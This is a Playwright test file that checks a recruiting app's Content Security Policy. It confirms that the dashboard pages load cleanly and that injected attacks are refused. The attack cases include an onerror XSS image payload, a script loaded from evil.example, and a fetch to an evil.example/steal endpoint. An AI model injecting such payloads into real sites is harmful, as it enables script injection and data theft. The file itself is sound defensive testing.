import { afterAll, beforeAll, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import type { ApiClient } from '../story/api-client.js';
import { eventually } from '../story/narrator.js';
import { whenQuiet } from './quiet.fixture.js';
import { type StartedRegards, startRegards } from './regards.fixture.js';
import { describeInBrowser } from './test-browser.fixture.js';

/** What a page refused to do since it was opened: "script-src-elem inline". */
const refusals = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { refusals: string[] }).refusals);

describeInBrowser('the content policy', (browser) => {
  let regards: StartedRegards;
  let recruiter: ApiClient;
  beforeAll(async () => {
    regards = await startRegards();
    recruiter = await regards.signIn();
  }, 120_000);
  afterAll(() => regards.stop());

  const open = async (path: string): Promise<Page> => {
    const page = await browser.newPage({ as: recruiter });
    await page.addInitScript(() => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        seen.push(`${effectiveDirective} ${blockedURI}`),
      );
      Object.assign(window, { refusals: seen });
    });
    await page.goto(`${regards.url}${path}`);
    return page;
  };

  it('hinders no page of the dashboard', async () => {
    const page = await open('/today');
    const links = page.locator('nav[aria-label="Main"] a');
    await links.first().waitFor();
    const places = await links.evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''));
    expect(places.length).toBeGreaterThan(4);
    for (const path of [...places, '/settings/setup', '/settings/ats', '/settings/me']) {
      await page.goto(`${regards.url}${path}`);
      await page.locator('main h1, main h2').first().waitFor();
      await whenQuiet(page);
      expect([path, ...(await refusals(page))]).toEqual([path]);
    }
  });

  it('hinders no page of the documentation', async () => {
    const page = await open('/api/docs');
    await page.getByRole('heading', { name: /Regards/ }).waitFor();
    expect(await refusals(page)).toEqual([]);
  });

  it.each([
    [
      'a script in the page',
      'script-src-elem inline',
      () => {
        const script = document.createElement('script');
        script.textContent = 'document.documentElement.dataset.struck = "1"';
        document.body.append(script);
      },
    ],
    [
      'a script in an attribute',
      'script-src-attr inline',
      () =>
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="data:," onerror="document.documentElement.dataset.struck = 1">',
        ),
    ],
    [
      'a script from elsewhere',
      'script-src-elem https://evil.example/x.js',
      () =>
        document.body.append(
          Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
        ),
    ],
    [
      'a request to elsewhere',
      'connect-src https://evil.example/steal',
      () => void fetch('https://evil.example/steal').catch(() => undefined),
    ],
    [
      'another base for its links',
      'base-uri https://evil.example/',
      () =>
        document.head.append(
          Object.assign(document.createElement('base'), { href: 'https://evil.example/' }),
        ),
    ],
  ])('refuses %s', async (_what, refusal, attack) => {
    const page = await open('/today');
    await page.locator('main h1').first().waitFor();
    await page.evaluate(attack);
    await eventually('it is refused', async () => (await refusals(page)).includes(refusal));
    expect(await page.locator('html[data-struck]').count()).toBe(0);
    // The browser says so in its console, which is what this is about.
    browser.takeComplaints();
  });
});
